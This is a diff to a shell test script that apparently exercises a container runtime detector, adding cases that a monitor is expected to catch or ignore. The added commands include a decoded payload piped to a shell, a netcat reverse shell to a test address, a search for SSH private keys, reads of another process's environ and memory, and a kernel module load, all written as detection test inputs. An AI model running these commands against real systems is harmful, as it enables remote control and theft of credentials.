@@ -62,3 +62,13 @@ capture benign-webserver "$S/shell-script:latest" /bin/sh -c \
   'mkdir -p /var/run /var/log/httpd /www && echo $$ > /var/run/httpd.pid && echo ok > /www/index.html && echo "start" >> /var/log/httpd/access.log && (busybox httpd -f -p 8080 -h /www & sleep 1; kill $!) ; echo done'
 capture benign-waitfor "$S/shell-script:latest" /bin/sh -c \
   'for i in 1 2; do nc -z -w 1 10.66.66.66 5432 && break; sleep 0.2; done; id; whoami; env | sort | head -3; sed -i "s/^NAME=.*/NAME=patched/" /tmp/none 2>/dev/null; exec setpriv --reuid=1000 --regid=1000 --clear-groups id'
+# Static busybox applets re-executed through /proc/self/exe (comm "exe"): proc.applet must name
+# the tool (issue 12). Decoded payload to a shell, netcat with -e, a key search, nc -z (benign).
+capture busybox-applets "$S/shell-script:latest" /bin/sh -c \
+  'echo aWQK | base64 -d | sh; nc 10.66.66.66 4444 -e /bin/sh; find / -maxdepth 1 -name id_rsa; nc -z -w 1 10.66.66.66 5432; ps; true'
+# Precision (issue 12): procps ps/pgrep/pidof/top and kmod's lsmod/`kmod list`/modprobe -n list
+# processes and modules (ps 4.x opens every /proc/<pid>/environ); then real reads of another
+# process's environ and mem, and an insmod, which must still be caught. Needs
+# test/samples/debian/build.sh debian-admin-ops.
+capture precision-listing quarantine-samples/debian-admin-ops:latest /bin/sh -c \
+  'sleep 2 & ps -eo pid,user,comm >/dev/null; ps aux >/dev/null; pgrep -f sleep >/dev/null; pidof sleep >/dev/null; top -b -n 1 >/dev/null; lsmod >/dev/null; kmod list >/dev/null; modprobe -n -v dummy >/dev/null 2>&1; cat /proc/self/environ >/dev/null; cat /proc/1/environ >/dev/null; dd if=/proc/1/mem of=/dev/null bs=1 count=1 2>/dev/null; insmod /nonexistent.ko 2>/dev/null; true'
